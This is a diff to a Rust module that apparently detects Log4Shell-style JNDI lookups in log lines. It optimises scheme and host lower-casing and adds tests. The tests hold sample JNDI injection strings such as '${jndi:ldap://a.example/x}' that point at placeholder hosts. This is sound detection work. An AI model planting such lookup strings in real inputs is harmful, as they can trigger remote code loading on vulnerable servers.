@@ -1,6 +1,7 @@
 //! Decides what an evaluated line means: a `jndi` exploit (and where it calls home), victim data
 //! sent out, a recursion denial of service, or traces that an exploit already ran.
 
+use std::borrow::Cow;
 use std::sync::LazyLock;
 
 use memchr::memmem::Finder;
@@ -73,7 +74,18 @@ pub enum JndiProtocol {
 impl JndiProtocol {
     /// Maps a URL scheme (any case) to a protocol.
     pub fn from_scheme(scheme: &str) -> Self {
-        match scheme.to_lowercase().as_str() {
+        // Short ASCII schemes (nearly all) are lower-cased on the stack: attackers vary the
+        // case of every letter, and a lower-cased copy on the heap per hit added up.
+        let mut buffer = [0u8; 16];
+        let lower: Cow<'_, str> = match buffer.get_mut(..scheme.len()) {
+            Some(buffer) if scheme.is_ascii() => {
+                buffer.copy_from_slice(scheme.as_bytes());
+                buffer.make_ascii_lowercase();
+                Cow::Borrowed(std::str::from_utf8(buffer).expect("ASCII stays ASCII"))
+            }
+            _ => Cow::Owned(scheme.to_lowercase()),
+        };
+        match lower.as_ref() {
             "ldap" => Self::Ldap,
             "ldaps" => Self::Ldaps,
             "rmi" => Self::Rmi,
@@ -188,11 +200,14 @@ impl JndiTarget {
             authority = &authority[at + 1..];
         }
         let (host, port) = split_port(authority);
-        let host = non_empty(host).map(|h| {
-            if h.contains("${") {
-                h
+        // One copy of the host, lower-cased unless it holds a lookup.
+        let host = (!host.is_empty()).then(|| {
+            if substitutor::find_open(host.as_bytes(), 0).is_some() {
+                host.to_string()
+            } else if host.is_ascii() {
+                host.to_ascii_lowercase()
             } else {
-                h.to_lowercase()
+                host.to_lowercase()
             }
         });
         Self {
@@ -322,8 +337,20 @@ pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Findi
 /// The name after a literal `${jndi:` (any case), up to its `}` or the end of the token; a name
 /// running to the end of `text` only counts when that is the end of the line.
 fn literal_jndi_name(text: &str, at_end: bool) -> Option<String> {
-    let lower = text.to_ascii_lowercase();
-    let at = lower.find("${jndi:")? + "${jndi:".len();
+    const PREFIX: &[u8] = b"jndi:";
+    let bytes = text.as_bytes();
+    let mut from = 0;
+    let at = loop {
+        let open = substitutor::find_open(bytes, from)?;
+        let name = open + 2;
+        if bytes
+            .get(name..name + PREFIX.len())
+            .is_some_and(|prefix| prefix.eq_ignore_ascii_case(PREFIX))
+        {
+            break name + PREFIX.len();
+        }
+        from = name;
+    };
     let rest = &text[at..];
     let end = rest
         .find(|c: char| c == '}' || c.is_whitespace() || c == '"' || c == '\'')
@@ -444,6 +471,24 @@ mod tests {
         let t = JndiTarget::parse("corbaname:iiop:1.2@h");
         assert_eq!(t.protocol, Some(JndiProtocol::Corba));
         assert_eq!(JndiTarget::parse("x").protocol, None);
+        for scheme in [
+            "LdAp",
+            "ldaps",
+            "RMI",
+            "CorbaName",
+            "Ünï",
+            "ABCDEFGHIJKLMNOPQ",
+            "\u{212a}x",
+        ] {
+            let expected = match scheme.to_lowercase().as_str() {
+                "ldap" => JndiProtocol::Ldap,
+                "ldaps" => JndiProtocol::Ldaps,
+                "rmi" => JndiProtocol::Rmi,
+                "corbaname" => JndiProtocol::Corba,
+                other => JndiProtocol::Other(other.to_string()),
+            };
+            assert_eq!(JndiProtocol::from_scheme(scheme), expected, "{scheme}");
+        }
     }
 
     #[test]
@@ -477,6 +522,38 @@ mod tests {
         assert_eq!(f[0].target.host.as_deref(), Some("cut.example"));
         let f = analyze_one("$${jndi:ldap://esc.example/a}");
         assert_eq!(f[0].class, HitClass::Jndi);
+    }
+
+    #[test]
+    fn literal_jndi_names_match_a_lower_cased_search() {
+        fn reference(text: &str, at_end: bool) -> Option<String> {
+            let lower = text.to_ascii_lowercase();
+            let at = lower.find("${jndi:")? + "${jndi:".len();
+            let rest = &text[at..];
+            let end = rest
+                .find(|c: char| c == '}' || c.is_whitespace() || c == '"' || c == '\'')
+                .unwrap_or(rest.len());
+            (end < rest.len() || at_end).then(|| rest[..end].to_string())
+        }
+        for text in [
+            "$${jndi:ldap://a.example/x}",
+            "x ${JnDi:rmi://b.example/y} ${jndi:dns://c}",
+            "${x} ${jnd ${ ${jndi:ldap://d.example",
+            "İ${JNDI:}",
+            "ä${${jndi:ldap://e.example/a\"b",
+            "${jndi",
+            "${jndi:",
+            "no lookup at all",
+            "",
+        ] {
+            for at_end in [true, false] {
+                assert_eq!(
+                    literal_jndi_name(text, at_end),
+                    reference(text, at_end),
+                    "{text:?} {at_end}"
+                );
+            }
+        }
     }
 
     #[test]
